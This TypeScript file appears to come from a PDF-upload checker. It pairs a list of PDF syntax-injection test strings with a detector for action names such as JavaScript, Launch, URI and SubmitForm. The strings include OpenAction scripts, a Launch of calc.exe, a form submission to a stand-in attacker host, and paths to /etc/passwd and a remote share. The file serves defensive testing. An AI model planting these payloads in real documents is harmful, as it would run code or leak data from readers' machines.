/** Texts that would act where a PDF took them for its own syntax: ways out of strings, names, arrays, streams and objects. */
export const PDF_VECTORS: readonly string[] = [
  ') /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (',
  String.raw`\) >> endobj 99 0 obj << /S /Launch /F (calc.exe) >> endobj (`,
  String.raw`\\) /AA << /O << /S /JavaScript /JS (app.alert(1)) >> >> (`,
  '> /S /URI /URI <68747470733A2F2F6576696C2E6578616D706C65',
  '] /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >> >> [',
  'endstream endobj 99 0 obj << /Type /Action /S /SubmitForm /F (https://evil.example) >> endobj',
  '(((((',
  ')))))',
  '\\',
  '((\\))',
  '<< >>',
  '%%EOF',
  'trailer << /Root 99 0 R >> startxref 0 %%EOF',
  'ET BT (drawn) Tj ET',
  '] TJ ET Q q BT (drawn) Tj [',
  '/Launch /JavaScript /URI',
  'https://evil.example/?q=1',
  'javascript:app.alert(1)',
  'file:///etc/passwd',
  String.raw`\\evil.example\share`,
  'x\u0000) /OpenAction 1 0 R (',
  '\u202E)(',
  '\uFEFF) >> (',
  'þÿ\u0000) /JS (',
];

/** Names of PDF that act, lead elsewhere or carry files, none of which a paper of the portal has. Source: ISO 32000-1, 12.6. */
const ACTING =
  /\/(JavaScript|JS|Launch|OpenAction|AA|URI|SubmitForm|ImportData|GoToR|GoToE|RichMedia|EmbeddedFile|Rendition|Movie|Sound|XFA|AcroForm)(?![A-Za-z])/g;

/** The acting names in the objects of a PDF: not in its texts, which may say anything, nor in its streams. */
export function actingNames(pdf: Uint8Array): readonly string[] {
  return [...new Set(withoutStrings(Buffer.from(pdf).toString('latin1')).match(ACTING) ?? [])];
}

/** The objects without what lies between `stream` and `endstream`, by its length: the text of a title may say either. */
function withoutStreams(source: string): string {
  let kept = '';
  let at = 0;
  for (const found of source.matchAll(/>>\s*stream\r?\n/g)) {
    if (found.index < at) continue;
    kept += source.slice(at, found.index);
    const length = [...source.slice(at, found.index).matchAll(/\/Length (\d+)/g)].at(-1)?.[1] ?? '0';
    at = found.index + found[0].length + Number(length);
  }
  return kept + source.slice(at);
}

function withoutStrings(source: string): string {
  const objects = withoutStreams(source);
  let kept = '';
  let depth = 0;
  for (let at = 0; at < objects.length; at++) {
    const sign = objects.charAt(at);
    if (depth > 0 && sign === '\\') at++;
    else if (sign === '(') depth++;
    else if (sign === ')' && depth > 0) depth--;
    else if (depth === 0) kept += sign;
  }
  // Numbers of hexadecimal strings are no names.
  return kept
    .replaceAll(/<[\da-f\s]*>/gi, '')
    .replaceAll(/#([\da-f]{2})/gi, (_all, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)));
}
